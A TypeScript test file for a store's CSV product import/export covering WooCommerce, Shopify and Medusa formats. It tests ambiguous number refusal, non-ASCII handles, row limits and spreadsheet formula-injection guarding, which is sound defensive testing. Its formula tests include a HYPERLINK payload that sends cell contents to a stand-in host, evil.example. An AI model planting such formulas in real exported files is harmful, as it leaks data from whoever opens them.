/** Cells damaged by spreadsheets and other locales: ambiguous numbers, formulas, non-ASCII letters. */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type TestApi, testApi } from '../../testing/test-api.ts';
import type { Format } from './format.ts';
import { withFormulaGuard, withoutFormulaGuard } from './formula-guard.ts';
import { medusa } from './medusa.ts';
import { openReport } from './report.ts';
import { formats } from './service.ts';
import { shopify } from './shopify.ts';
import { getFile, keepTestFolder } from './testing/files.ts';
import { rejections, type Transfers, getTransfers } from './testing/transfers.ts';
import { woocommerce } from './woocommerce.ts';

let api: TestApi;
let transfers: Transfers;
let vendorId: string;
keepTestFolder();
beforeAll(async () => {
  api = await testApi();
  transfers = getTransfers(api);
  vendorId = await api.make.vendor({ name: 'Kalkylbutiken' });
});
afterAll(() => api.stop());

const product = async (handle: string) => (await api.get(`/api/store/products/${handle}?locale=sv`)).body.product;

/** One product in each format, with cells by column. */
const rows: Record<string, { format: Format; columns: string; row: (sku: string, stock: string, weight: string, price: string) => string }> = {
  woocommerce: { format: woocommerce, columns: 'Type,SKU,Name,Stock,Weight (g),Regular price', row: (sku, ...cells) => `simple,${sku},${sku},${cells.join()}` },
  shopify: {
    format: shopify,
    columns: 'Handle,Title,Variant SKU,Variant Inventory Tracker,Variant Inventory Qty,Variant Grams,Variant Price',
    row: (sku, ...cells) => `${sku},${sku},${sku},shopify,${cells.join()}`,
  },
  medusa: { format: medusa, columns: 'Product Handle,Product Title,Variant Sku,Variant Inventory Quantity,Variant Weight,Price SEK', row: (sku, ...cells) => `${sku},${sku},${sku},${cells.join()}` },
};

describe.each(Object.entries(rows))('numbers in a file of %s', (name, { format, columns, row }) => {
  const getRefusals = async (...lines: string[]) => rejections((await transfers.import(format, getFile([columns, ...lines].join('\n')), { vendorId })).outcomes);

  test('refuses a stock, weight or price that may be read two ways', async () => {
    expect(
      await getRefusals(
        row(`${name}-a`, '"1,000"', '5', '100'),
        row(`${name}-b`, '1.000', '5', '100'),
        row(`${name}-c`, '5', '"1,800"', '100'),
        row(`${name}-d`, '5', '1.800', '100'),
        row(`${name}-e`, '5', '5', '"1,299"'),
      ),
    ).toEqual([
      '2: the stock "1,000" may be read two ways, as 1000 or 1.000: write it without a thousands separator',
      '3: the stock "1.000" may be read two ways, as 1000 or 1.000: write it without a thousands separator',
      '4: the weight "1,800" may be read two ways, as 1800 or 1.800: write it without a thousands separator',
      '5: the weight "1.800" may be read two ways, as 1800 or 1.800: write it without a thousands separator',
      '6: the price "1,299" may be read two ways, as 1299 or 1.299: write it without a thousands separator',
    ]);
    expect(await product(`${name}-a`)).toBeUndefined();
  });

  test('refuses exponents, other bases and sums of another currency', async () => {
    expect(
      await getRefusals(
        row(`${name}-f`, '1e3', '5', '100'),
        row(`${name}-g`, '0x10', '5', '100'),
        row(`${name}-h`, '5', '1e3', '100'),
        row(`${name}-i`, '5', '0x10', '100'),
        row(`${name}-j`, '5', '5', '1e3'),
        row(`${name}-k`, '5', '5', '12 EUR'),
        row(`${name}-l`, '1.5', '5', '100'),
        row(`${name}-m`, '5', '-5', '100'),
      ),
    ).toEqual([
      '2: the stock "1e3" is no whole number',
      '3: the stock "0x10" is no whole number',
      '4: the weight "1e3" is no number',
      '5: the weight "0x10" is no number',
      '6: the price "1e3" is no sum above zero with at most two decimals',
      '7: the price "12 EUR" is in EUR, and the column in SEK',
      '8: the stock "1.5" is no whole number',
      '9: the weight "-5" is no number',
    ]);
  });

  test('reads groups that can be read one way alone', async () => {
    expect(await getRefusals(row(`${name}-n`, '1 000', '"1 800,4"', '"1.299,50 kr"'), row(`${name}-o`, '-2', '12.0', '99:-'))).toEqual([]);
    expect(await product(`${name}-n`)).toMatchObject({ variants: [{ weight_grams: 1800, prices: [{ amount: 1299.5 }] }] });
    expect(await product(`${name}-o`)).toMatchObject({ variants: [{ weight_grams: 12, prices: [{ amount: 99 }] }] });
    const [stock] = await api.database.run({ text: 'select s.available from stock_items s join variants v on v.stock_item_id = s.id where v.sku = $1', values: [`${name}-n`] });
    expect(stock).toEqual({ available: 1000 });
  });
});

test('reads three decimals of a weight in kilograms as grams', async () => {
  const file = getFile('Type,SKU,Name,Weight (kg),Regular price\nsimple,kg-1,Kilo ett,"1,250",100\nsimple,kg-2,Kilo två,1.5,100\nsimple,kg-3,Kilo tre,1e3,100\n');
  expect(rejections((await transfers.import(woocommerce, file, { vendorId })).outcomes)).toEqual(['4: the weight "1e3" is no number']);
  expect(await product('kilo-ett')).toMatchObject({ variants: [{ weight_grams: 1250 }] });
  expect(await product('kilo-tva')).toMatchObject({ variants: [{ weight_grams: 1500 }] });
});

test('retains letters beyond ASCII in handles', async () => {
  const file = getFile('Type,SKU,Name,Regular price\nsimple,AD-1,Þorláksmessa blóðberg,100\nsimple,AD-2,Łódź-muggen,100\nsimple,AD-3,Матрёшка,100\n');
  expect((await transfers.import(woocommerce, file, { vendorId })).outcomes.filter(({ kind }) => kind === 'created').map((outcome) => outcome.product)).toEqual([
    'thorlaksmessa-blodberg',
    'lodz-muggen',
    'matreshka',
  ]);
});

test('refuses a product of more rows than any has', async () => {
  const lines = Array.from({ length: 3_001 }, (_, index) => `Jätten,Jätten,jatte-${index},1,1,100`);
  const { outcomes, ...summary } = await transfers.import(medusa, getFile([rows['medusa']?.columns, ...lines, 'liten,Liten,liten,1,1,100'].join('\n')), { vendorId });
  expect(summary).toMatchObject({ created: 1, rejected: 1 });
  expect(rejections(outcomes)).toEqual(['3002: the product has more than 3000 rows']);
});

describe('formula cells', () => {
  const formulas = ['=HYPERLINK("http://evil.example?x="&A1,"klicka")', '+46', '-5 grader', '@a', "'=redan", '＝1+1'];
  const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell);

  test.each(formats.map((format) => [format.name, format] as const))('prefixes formulas with an apostrophe in files of %s and restores them', async (name, format) => {
    const own = await api.make.vendor({ name: `Formler ${name}` });
    const lines = formulas.map((title, index) => {
      const cell = `"${title.replaceAll('"', '""')}"`;
      return `formel-${name}-${index},${cell},"=Storlek",${cell},"=${name}+${index}",100`;
    });
    const raw = getFile(['Handle,Title,Option1 Name,Option1 Value,Variant SKU,Variant Price', ...lines].join('\n'));
    expect(await transfers.import(shopify, raw, { vendorId: own })).toMatchObject({ created: formulas.length });
    const before = await transfers.tables();
    const exported = await transfers.export(format, { vendorId: own });
    // No cell here has a line break, so every cell is between commas.
    const cells = readFileSync(exported, 'utf8').match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",\r\n]*)(?=,|\r?$)/gm) ?? [];
    const plain = cells.map((cell) => cell.replace(/^"|"$/g, '').replaceAll('""', '"'));
    expect(plain.filter(isFormula)).toEqual([]);
    expect(plain).toContain("'+46");
    expect(await transfers.import(format, exported, { vendorId: own })).toMatchObject({ created: 0, updated: 0, unchanged: formulas.length, rejected: 0 });
    expect(await transfers.tables()).toEqual(before);
    // "Unchanged" doesn't prove that the apostrophe is stripped, as both sides are read alike: changes a title and imports it back.
    await api.database.run({ text: `update product_translations t set title = 'Annan' from products p where p.id = t.product_id and p.vendor_id = $1 and language_code = 'sv'`, values: [own] });
    expect(await transfers.import(format, exported, { vendorId: own })).toMatchObject({ updated: formulas.length });
    const titles = await api.database.run<{ title: string }>({
      text: `select t.title from product_translations t join products p on p.id = t.product_id where p.vendor_id = $1 and language_code = 'sv' order by p.handle`,
      values: [own],
    });
    expect(titles.map(({ title }) => title)).toEqual(formulas.map((formula) => withoutFormulaGuard(formula)));
  });

  test('reads back every guarded cell', () => {
    const cell = fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '＝'), { maxLength: 6 }).map((signs) => signs.join(''));
    fc.assert(
      fc.property(cell, (text) => {
        expect(isFormula(withFormulaGuard(text))).toBe(false);
        expect(withoutFormulaGuard(withFormulaGuard(text))).toBe(text);
      }),
    );
  });

  test('writes no formula into the report', async () => {
    const file = getFile('');
    const report = await openReport(file);
    report.add({ kind: 'rejected', line: 2, lines: [2], product: '=1+1', says: ['@a'], notes: [] });
    await report.close();
    expect(readFileSync(file, 'utf8').split('\r\n')[1]).toBe("2,2,'=1+1,rejected,'@a");
  });
});
